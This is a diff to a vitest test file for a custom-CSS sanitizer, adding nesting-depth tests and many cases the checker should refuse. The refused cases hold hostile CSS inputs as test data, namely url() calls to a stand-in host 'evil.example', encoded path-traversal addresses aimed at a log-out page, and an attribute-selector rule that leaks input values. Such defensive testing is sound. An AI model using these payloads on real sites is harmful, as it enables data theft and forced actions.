@@ -1,12 +1,12 @@
 import { describe, expect, test } from 'vitest';
-import { checkCss } from './custom-css.ts';
+import { compileStyles } from './compile-styles.ts';
 
 const faultOf = (text: string) => {
-  const result = checkCss(text);
+  const result = compileStyles(text);
   return 'fault' in result ? result.fault : null;
 };
 const cssOf = (text: string) => {
-  const result = checkCss(text);
+  const result = compileStyles(text);
   return 'css' in result ? result.css : null;
 };
 
@@ -21,6 +21,18 @@ test('styles are kept, and reach header, page and footer alone', () => {
 
 test('rules may be nested', () => {
   expect(faultOf('main { .card { &:hover { color: red } & + & { margin: 0 } } }')).toBeNull();
+});
+
+test.each(['', 'a{--x:', 'a{/* } */', 'a{b:"}";', 'a{b:url(/media/a/*);'])(
+  'nesting is counted where the parser would see it: %s',
+  (before) => {
+    expect(faultOf(`\n${before}${'a{'.repeat(30)}`)).toMatch(/^Line 2: these styles are nested more than/);
+  },
+);
+
+test('brackets in texts, comments and addresses are none', () => {
+  const many = '('.repeat(40);
+  expect(faultOf(`a{content:"${many}";/* ${many} */background:url(/media/x)}`)).toBeNull();
 });
 
 test('what cannot be read is said with its line', () => {
@@ -63,6 +75,44 @@ describe('refused', () => {
     ['a picture in a variable', 'a{--x:url(https://evil.example)}', /url\(/],
     ['a source', 'a{--x:src("https://evil.example")}', /src\(/],
     ['a cursor from elsewhere', 'a{cursor:url(https://evil.example),auto}', /url\(/],
+    [
+      'a second address beside one of the library',
+      'a{background:url(/media/x)}b{background:url(https://evil.example/1)}',
+      /evil\.example\/1/,
+    ],
+    [
+      'a second address in one value',
+      'a{background:url(/media/x),url(https://evil.example/2)}',
+      /evil\.example\/2/,
+    ],
+    ['a second address in a variable', 'a{--x:url(/media/x) url(//evil.example/3)}', /evil\.example\/3/],
+    ['an address in a fallback', 'a{color:var(--y,url(https://evil.example/4))}', /evil\.example\/4/],
+    [
+      'an address in a block of a variable',
+      'a{--x:{background:url(https://evil.example/5)}}',
+      /evil\.example\/5/,
+    ],
+    [
+      'an address in a condition',
+      '@container style(--x:url(https://evil.example/6)){a{color:red}}',
+      /evil\.example\/6/,
+    ],
+    ['an address of an older property', 'a{behavior:url(https://evil.example/7)}', /evil\.example\/7/],
+    [
+      'an address in a mask, a filter or a marker',
+      'a{mask:url(/media/x);marker-end:url(https://evil.example/8)}',
+      /evil\.example\/8/,
+    ],
+    ['url() as the parser does not know it', 'a{--x:URL("https://evil.example/9")}', /url\(\) cannot/],
+    ['a set by variable', 'a{background:image-set(var(--u) 1x)}', /image-set/],
+    ['dots that are encoded', 'a{background:url(/media/%2e%2e/log-out)}', /not an image/],
+    ['dots that are half encoded', 'a{background:url(/media/.%2E/log-out)}', /not an image/],
+    ['slashes that are encoded', 'a{background:url(/media/..%2flog-out)}', /not an image/],
+    ['backslashes', String.raw`a{background:url("/media/\\..\\log-out")}`, /not an image/],
+    ['backslashes for slashes', String.raw`a{background:url("\\\\evil.example/media/")}`, /not an image/],
+    ['a line break in an address', String.raw`a{background:url("/media/\a ../x")}`, /not an image/],
+    ['a path that means its page', 'a{background:url(media/x)}', /not an image/],
+    ['a question', 'a{background:url(/media/x?to=1)}', /not an image/],
     ['a letter that tells of the page', 'input[value^=a]{background:url(https://evil.example/a)}', /url\(/],
   ])('%s', (_name, text, expected) => {
     expect(faultOf(text)).toMatch(expected);
